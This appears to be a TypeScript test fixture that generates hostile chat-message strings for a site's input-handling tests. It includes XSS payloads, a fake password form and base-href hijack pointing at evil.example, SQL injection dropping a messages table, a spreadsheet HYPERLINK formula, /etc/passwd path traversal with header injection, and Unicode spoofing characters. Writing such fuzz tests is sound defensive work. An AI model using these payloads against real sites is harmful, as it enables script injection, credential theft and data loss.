/** Texts that try to be more than a text where they are shown. A script of theirs that runs sets `window.pwned`. */
const run = 'window.pwned=1';
const markup = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `"><svg/onload=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<a href="javascript:${run}">free points</a>`,
  `<style>*{display:none}</style><form action=https://evil.example><input name=password>`,
  `<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>`,
  `<math><mi xlink:href="data:x,<script>${run}</script>">`,
  `<template><img src=https://evil.example/x.png></template>`,
  `</span></p><h1 style="position:fixed;inset:0">Pay here</h1>`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `&lt;script&gt;${run}&lt;/script&gt; &#60;b&#62;`,
];
const words = [
  `javascript:${run}`,
  `JaVaScRiPt&#58;${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor("${run}")()}} \${${run}} <%= ${run} %> #{${run}}`,
  `__proto__ constructor toString [object Object] undefined null NaN`,
  `{"type":"new_message","channelId":"1"}`,
  `'; drop table chat.messages; --`,
  `$t(chat.send) {{name}} {count, plural, one{#} other{#}}`,
  `=HYPERLINK("https://evil.example") @SUM(A1)`,
  `../../etc/passwd %00 %0d%0aSet-Cookie: a=b`,
];
const marks = [
  '\u202Eevil\u202C \u2067right to left',
  '\u2066\u2066\u2066\u2066never closed',
  `Z${'\u0338\u0316\u0321\u0334\u0489\u0300\u0301'.repeat(60)}algo`,
  `${'\u115F\u3164\u200B\u200D\uFEFF'.repeat(20)}nothing to see`,
  'ﷺ'.repeat(120),
  '𒐫'.repeat(200),
  'W'.repeat(1_900),
  '가'.repeat(1_900),
  'line\n'.repeat(60),
  '👨‍👩‍👧‍👦'.repeat(150),
  '\u{E0067}\u{E0062}\u{E007F}🏴',
  'a\u0085b\u2028c\u2029d\tend',
];
/** What the site refuses: too long, blank, or not text. */
const refused = ['x'.repeat(2_001), 'a\u0000b', '\u200B \n\t', ' '.repeat(50), '\uD800 half a pair'];

/** Makes `count` different hostile texts, of which some are to be refused. */
export function hostileTexts(count: number): string[] {
  const kinds = [...markup, ...words, ...marks];
  const ways = [
    (text: string) => text,
    (text: string) => `Look: ${text}`,
    (text: string) => `${text} ${text}`,
    (text: string) => `\u202E${text}`,
    (text: string) => text.toUpperCase(),
    (text: string) => `${text}\n\n${text.slice(0, 20)}`,
    (text: string) => `**${text}** [link](${text.slice(0, 30)})`,
    (text: string) => text.normalize('NFD'),
    (text: string) => `안녕 ${text} 세계`,
    (text: string) => `> ${text}`,
    (text: string) => [...text].toReversed().join(''),
  ];
  const texts = ways.flatMap((way) => kinds.map((text) => way(text).slice(0, 2_000)));
  return [...new Set([...refused, ...texts])].slice(0, count);
}
